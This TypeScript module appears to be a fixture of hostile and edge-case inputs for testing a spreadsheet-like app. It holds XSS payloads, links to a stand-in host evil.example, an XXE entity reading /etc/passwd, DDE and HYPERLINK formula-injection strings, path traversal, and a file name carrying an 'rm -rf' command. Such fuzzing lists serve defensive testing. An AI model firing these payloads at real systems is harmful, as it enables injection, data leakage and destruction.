/** What may stand in a cell, by mistake or by malice, by what it tries to do. */
export const texts = {
  scripts: [
    '<script>window.__xss = 1</script>',
    '</script><script>window.__xss = 1</script>',
    '"><img src=x onerror="window.__xss = 1">',
    "' onmouseover='window.__xss = 1' x='",
    '<svg/onload=window.__xss=1>',
    '</title></desc></svg><svg onload=window.__xss=1>',
    '</noscript></blockquote></iframe></style></textarea><img src=x onerror=window.__xss=1>',
    '<details open ontoggle=window.__xss=1>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
    '<a href="javascript:window.__xss=1">x</a>',
    'javascript:window.__xss=1',
    'JaVaScRiPt&colon;window.__xss=1',
    'data:text/html,<script>window.__xss=1</script>',
    '[x](javascript:window.__xss=1)',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<form action=https://evil.example><input autofocus onfocus=window.__xss=1>',
  ],
  markup: [
    ']]><![CDATA[',
    '<!-- --> <!--',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    '&lt;b&gt; &amp; &#60;script&#62; &nbsp;',
    '<image xlink:href="https://evil.example/x.png"/><use href="data:image/svg+xml,x#y"/>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>',
    '<animate attributeName=href values="javascript:window.__xss=1"/>',
    'url(https://evil.example/x) expression(1) }</style>',
    `{curly} {0} {line} {title} {figure} #{x} $\{y} {{z}} <%= w %>`,
    "$& $1 $` $' $$ $<a>",
    '\\u003cscript\\u003e \\x3c \\',
    '*bold* _under_ `code` ![x](https://evil.example/x.png) # head',
    '--- +++ === %s %d %n %25 %2e%2e%2f',
  ],
  formulas: [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1)',
    '@SUM(1+1)*cmd',
    '+1+cmd()',
    '-2+3+cmd()',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(1)',
    '\t=1+1',
    ' =1+1',
    "'=1+1",
    '=1+1;=2+2,=3+3',
  ],
  paths: [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\x',
    'file:///etc/passwd',
    '....//....//x',
    '%2e%2e%2fx',
    'con',
    'aux.csv',
    '.git/config',
    'a/b.csv',
    '~root',
    'x;rm -rf y|z`w`$(v)',
  ],
  names: [
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    '__defineGetter__',
    'undefined',
    'null',
    'length',
    'then',
  ],
  letters: [
    'a\u202egnp.exe\u202c\u2066b\u2069',
    'e\u0301\u0323'.normalize('NFD').repeat(40),
    `Z\u0351\u0303\u0342${'\u0315\u0306\u0348\u034d'.repeat(200)}`,
    '👩‍👩‍👧‍👦🇻🇳❤️‍🔥🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '\ufeffin the \ufeff middle\ufeff',
    'zero\u200bwidth\u200d\u2060\u00ad',
    'not\ufffecharacters\uffff\ufdd0',
    'next\u0085line\u2028and\u2029others\u000b\u000c',
    'مرحبا بالعالم שלום עולם',
    '\u0000',
    'x\u0000y',
    '\u001b[31mred\u001b[0m\u0007',
    'a\r\nb\n\nc',
    '𝕏𝟘½²ⅣⅫ①',
    'ﷺ꧁꧂',
    'Nghiêng'.repeat(60),
    'ＦＵＬＬ　ｗｉｄｔｈ',
    '\u00a0\u2009\u202f',
  ],
} as const satisfies Record<string, readonly string[]>;

/** All of them. */
export const allTexts: readonly string[] = Object.values(texts).flat();

/** What stands where a number should, or is one at the edge of what a number can be. */
// biome-ignore format: a list that is read better in lines.
export const numbers: readonly string[] = [
  'NaN', 'Infinity', '-Infinity', '1e308', '1e309', '-1e308', '1,5e999', '5e-324', '1e-320', '1e-400', '-0', '0',
  '0x10', '1_000', '0b1', '9'.repeat(400), '1'.repeat(30_000), '1,234', '1.234', '1.234,5', '٣', '１２', '1e', '+5', '--5',
  '0.1e1000', '.5', '5.', '1 000', '½', '-', '1e999999999', '9007199254740993',
];

/** What stands where a date should. */
// biome-ignore format: a list that is read better in lines.
export const dates: readonly string[] = [
  '2024-02-30', '0000', '0000-00-00', '9999', '9999-12-31', '0001-01-01', '12/13/2024', '45000', '2024-6-3', '2024-W01',
  '-2024', '2024-13', '١٢٣٤', '0050-01-01', '2024-06-30T00:00:00Z', '29/02/2023', '99999', '1e3',
];

/** Phrases of figures in English at the edge of what can be read. */
// biome-ignore format: a list that is read better in lines.
export const phrases: readonly string[] = [
  '0', '0%', '-5', '-0', '-76.5 million', '1', 'one', 'over 0', 'under 0', 'at least 0%', 'at most -1', 'nearly 1',
  `0.${'0'.repeat(120)}1`, `0.${'0'.repeat(320)}1`, '9'.repeat(308), '9'.repeat(400), `1${'0'.repeat(307)}`,
  `approximately 0.${'0'.repeat(110)}7`, `about ${'9'.repeat(200)}.5`, `9.${'9'.repeat(150)} million`,
  '1 million million million', `1${' trillion'.repeat(30)}`, `1${' trillion'.repeat(2000)}`, '999,999,999,999',
  '5-10 million', '0.0000001%', '100 percent', 'approximately 1,000,000 trillion', 'an estimated 0.5%',
  `over ${'8'.repeat(309)}`, '1.7976931348623157', `17976931348623157${'0'.repeat(292)}`, 'over -5 million', '100000%',
];

/** Formulas that are none, and bombs. `a` stands for a measure that has values. */
// biome-ignore format: a list that is read better in lines.
export const formulas: readonly string[] = [
  '1/0', 'a/0', '0/0', 'a/(a-a)', '1/(a-a)', 'a*1e308*1e308', 'a/1e-308/1e-308', '1e308*1e308', '-a', '--a', '-(-(-a))', 'a-a', 'a*0',
  `${'('.repeat(10_000)}a${')'.repeat(10_000)}`, `${'('.repeat(30)}a${')'.repeat(30)}`, '('.repeat(30), `${'-'.repeat(299)}a`,
  Array.from({ length: 75 }, () => 'a').join('*'), Array.from({ length: 75 }, () => 'a').join('/'), `${'a+'.repeat(149)}a`,
  'sum(sum(a))', 'sum(1)', 'sum(constructor)', 'parent(parent(a))', 'sum()', 'sum(a,a)', `sum(${'sum('.repeat(60)}a${')'.repeat(61)}`,
  'constructor', '__proto__', 'a.constructor', "a['b']", 'a[0]', 'this', 'process.exit(1)', 'a ? 1 : 2', 'a ** 2', 'a % 2', '[a]', '`a`',
  "'a' + 1", 'a; b', 'a b', 'a = 1', 'function(){}', '(() => 1)()', 'new a', 'import("x")', '{}', '1e999', '0x1f*a', '.5*a', '1.2.3', 'a//b',
  '/* a */ a', 'a/*', 'ａ', 'a\u200b', 'a + NaN', 'a + Infinity', 'a + undefined', 'a * null', '!a', '~a', 'typeof a', 'a && a', '+a',
];
